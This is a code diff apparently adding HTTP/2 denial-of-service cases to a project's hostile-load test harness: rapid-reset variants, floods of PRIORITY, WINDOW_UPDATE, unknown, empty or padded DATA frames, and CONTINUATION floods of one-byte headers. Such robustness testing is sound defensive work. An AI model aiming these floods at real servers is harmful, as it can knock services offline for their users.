@@ -16,7 +16,17 @@ from typing import Protocol
 
 import msgspec
 
-from bench.load import END_STREAM, HEADERS, PING, PREFACE, RESET, SETTINGS, frame
+from bench.load import (
+    DATA,
+    END_STREAM,
+    HEADERS,
+    PING,
+    PREFACE,
+    RESET,
+    SETTINGS,
+    WINDOW_UPDATE,
+    frame,
+)
 from bench.servers import BATCH_CHECK, CHECK, HEALTH, SERVICE
 from scripts.hostile import messages
 from scripts.hostile.connection import CANCEL, CONTINUATION, Address, Raw, framed
@@ -26,6 +36,8 @@ STREAM = f"{SERVICE}/CheckStream"
 #: How many connections a caller has, and how many calls it tries on each.
 CONNECTIONS, CALLS = 12, 100
 FLOOD = 3_000
+#: RFC 9113, sections 6.1 and 6.3.
+PADDED, PRIORITY = 8, 2
 _POLICY = 'api health\n\naudience "https://example.com/health-api"\n\n'
 
 
@@ -125,11 +137,18 @@ _MANY_SCOPES += "".join(
 # -- frames ----------------------------------------------------------------------------------------
 
 
-def rapid_reset(target: Target, stop: Stop, *, message: bool = False, tls: bool = False) -> None:
+def rapid_reset(
+    target: Target,
+    stop: Stop,
+    *,
+    message: bool = False,
+    tls: bool = False,
+    polite: bool = True,
+) -> None:
     """Begin calls and reset each at once."""
     body = framed(target.request)
     while not stop.is_set():
-        raw = Raw(target.address, tls=tls)
+        raw = Raw(target.address, tls=tls, polite=polite)
         try:
             while not stop.is_set():
                 for _ in range(100):
@@ -145,10 +164,12 @@ def rapid_reset(target: Target, stop: Stop, *, message: bool = False, tls: bool 
             raw.close()
 
 
-def flood(frames: Callable[[Raw], bytes], target: Target, stop: Stop) -> None:
+def flood(
+    frames: Callable[[Raw], bytes], target: Target, stop: Stop, *, polite: bool = True
+) -> None:
     """Send frames without end, and read little."""
     while not stop.is_set():
-        raw = Raw(target.address)
+        raw = Raw(target.address, polite=polite)
         try:
             raw.send()
             payload = frames(raw)
@@ -167,6 +188,39 @@ def _settings(_raw: Raw) -> bytes:
 
 def _pings(_raw: Raw) -> bytes:
     return frame(PING, 0, 0, b"12345678") * 200
+
+
+def _priorities(raw: Raw) -> bytes:
+    raw.headers(CHECK.path)
+    raw.send()
+    return frame(PRIORITY, 0, raw.stream, bytes(5)) * 2_000
+
+
+def _windows(_raw: Raw) -> bytes:
+    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2_000
+
+
+def _unknown(_raw: Raw) -> bytes:
+    return frame(0xFA, 0, 0, bytes(9)) * 2_000
+
+
+def _empty_data(raw: Raw) -> bytes:
+    raw.headers(CHECK.path)
+    raw.send()
+    return frame(DATA, 0, raw.stream, b"") * 2_000
+
+
+def _padding(raw: Raw) -> bytes:
+    raw.headers(CHECK.path)
+    raw.send()
+    return frame(DATA, PADDED, raw.stream, bytes([255]) + bytes(255)) * 200
+
+
+def _indexed(raw: Raw) -> bytes:
+    """Headers of which each takes one byte: one of the static table (RFC 7541, section 6.1)."""
+    raw.headers(CHECK.path, flags=0)
+    raw.send()
+    return frame(CONTINUATION, 0, raw.stream, b"\x91" * 16_000) * 8
 
 
 def _continuations(raw: Raw) -> bytes:
@@ -352,9 +406,17 @@ ATTACKS: tuple[Attack, ...] = (
     ),
     Attack("rapid reset", rapid_reset),
     Attack("rapid reset, with messages", partial(rapid_reset, message=True)),
+    Attack("rapid reset without SETTINGS", partial(rapid_reset, message=True, polite=False)),
     Attack("SETTINGS without end", partial(flood, _settings)),
     Attack("PING without end", partial(flood, _pings)),
     Attack("CONTINUATION without end", partial(flood, _continuations)),
+    Attack("CONTINUATION, no SETTINGS", partial(flood, _continuations, polite=False)),
+    Attack("headers of a byte each", partial(flood, _indexed, polite=False)),
+    Attack("PRIORITY without end", partial(flood, _priorities)),
+    Attack("WINDOW_UPDATE without end", partial(flood, _windows)),
+    Attack("unknown frames without end", partial(flood, _unknown)),
+    Attack("empty DATA without end", partial(flood, _empty_data)),
+    Attack("padding without end", partial(flood, _padding)),
     Attack("headers of 100 KB", again(header_bomb)),
     Attack("what is no HTTP/2", again(garbage)),
     Attack("half-open calls", partial(hold, _half_open)),
